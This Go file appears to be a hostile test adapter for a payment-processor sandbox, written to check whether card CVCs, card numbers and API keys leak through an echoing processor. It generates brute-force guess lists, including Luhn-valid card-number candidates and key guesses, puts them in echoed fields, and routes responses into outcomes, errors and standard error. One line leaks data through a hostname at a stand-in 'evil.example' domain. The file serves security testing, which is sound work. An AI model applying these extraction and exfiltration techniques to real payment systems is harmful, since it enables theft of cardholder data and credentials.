package hostile

import (
	"fmt"
	"os"
	"strings"

	"payswitch/sdk"
)

// answers tries to learn secrets from the answers of a processor that echoes its requests. It makes honest payments, writes
// guesses into an echoed field, asks for answers in other forms, and carries what it sees into outcomes, rejects, errors and
// standard error. ok is false for an unknown mode.
func answers(c *sdk.Call, mode, arg string) (out *sdk.Outcome, ok bool, err error) {
	card := c.Request.Instrument.Card
	own := sdk.H("Authorization", "Bearer "+c.Account.Credentials["secret_key"])
	honest := func() *sdk.Object {
		return sdk.NewObject().Str("reference", c.Request.Reference).Obj("card", sdk.NewObject().Str("number", card.Number).Str("cvc", card.CVC))
	}
	// pay is an honest payment with a note. The adapter reveals the whole answer.
	pay := func(note string, headers ...sdk.Header) (*sdk.Outcome, bool, error) {
		r, err := c.Do(post(c.Account.BaseURL+"/pay", honest().Str("note", note), append(headers, own)...))
		if err != nil {
			return nil, true, err
		}
		return tell(r), true, nil
	}
	switch mode {
	case "see": // the processor echoes in the form that the test names
		return pay("x")
	case "ask": // asks for an answer in another form
		name, value, _ := strings.Cut(arg, "=")
		return pay("x", sdk.H(name, value))
	case "cvc_candidates": // one of a thousand guesses is right
		var all strings.Builder
		for n := range 1000 {
			fmt.Fprintf(&all, "cvc=%03d;", n)
		}
		return pay(all.String())
	case "cvc_fields": // the same guesses, as fields of a document
		var all strings.Builder
		for n := range 1000 {
			fmt.Fprintf(&all, `{"cvc":"%03d"},`, n)
		}
		return pay(all.String())
	case "number_candidates": // numbers with the card's first six and last four digits and a valid check digit: all, or as many as the fuel allows
		count := 1500
		if c.Account.Config["target"] == "all" {
			count = 12000
		}
		return pay(strings.Join(Candidates(card.BIN, card.LastFour, int(card.Length), count), arg))
	case "key_candidates": // guesses of the characters after a known part of the key, in a sliding window
		var all strings.Builder
		for _, a := range "abcdefghijklmnopqrstuvwxyz0123456789_" {
			for _, b := range "abcdefghijklmnopqrstuvwxyz0123456789_" {
				fmt.Fprintf(&all, "%s%c%c ", arg, a, b)
			}
		}
		return pay(all.String())
	case "capture_candidates": // looks for a guess that shares a stand-in with the CVC
		s := post(c.Account.BaseURL+"/pay", honest().Str("note", arg), own)
		s.Capture = []sdk.Capture{{Path: "cvc", Name: "a"}, {Path: "number", Name: "b"}, {Path: "note", Name: "c"}}
		r, err := c.Do(s)
		if err != nil {
			return nil, true, err
		}
		return tell(r), true, nil
	case "carry": // carries connector_data from one operation to the next
		note := "first"
		if d := c.Request.ConnectorData; d != nil {
			note = d.Payment
		}
		return pay(note)
	case "reject_text":
		return nil, true, &sdk.Reject{Code: sdk.RejectInvalid, Message: arg, Parameter: "card " + arg}
	case "error_text": // the error names the refused host
		return nil, true, func() error { _, err := c.Get("https://a" + arg + ".evil.example/"); return err }()
	case "stderr":
		fmt.Fprintln(os.Stderr, "adapter notes "+arg)
		return &sdk.Outcome{Status: sdk.StatusDeclined, Decline: &sdk.Decline{Code: "1", Message: "x"}}, true, nil
	case "outcome_text":
		return &sdk.Outcome{Status: sdk.StatusAuthorized, TransactionID: arg, AuthCode: arg, ConnectorData: &sdk.ConnectorData{Payment: arg, Method: `{"n":"` + arg + `"}`},
			Raw: map[string]string{arg: "x", "y": arg}}, true, nil
	}
	return nil, false, nil
}

// tell writes everything that the adapter has seen of an answer into an outcome.
func tell(r *sdk.Response) *sdk.Outcome {
	var headers strings.Builder
	for _, h := range r.Headers {
		if h.Name != "Date" {
			headers.WriteString(h.Name + ": " + h.Value + "\n")
		}
	}
	body := string(r.Body)
	fmt.Fprintln(os.Stderr, body)
	return &sdk.Outcome{Status: sdk.StatusDeclined, TransactionID: "t_1", Decline: &sdk.Decline{Code: "1", Message: body},
		ConnectorData: &sdk.ConnectorData{Payment: body[:min(len(body), 4000)]}, Raw: map[string]string{"body": body, "headers": headers.String()}}
}

// Candidates are numbers with the card's first and last digits and a valid check digit.
func Candidates(first, last string, length, count int) (all []string) {
	number := []byte(first + strings.Repeat("0", length-len(first)-len(last)) + last)
	for len(all) < count {
		sum := 0
		for i, c := range number {
			d := int(c - '0')
			if (len(number)-i)%2 == 0 {
				if d *= 2; d > 9 {
					d -= 9
				}
			}
			sum += d
		}
		if sum%10 == 0 {
			all = append(all, string(number))
		}
		i := length - len(last) - 1
		for ; number[i] == '9'; i-- {
			number[i] = '0'
		}
		number[i]++
	}
	return all
}
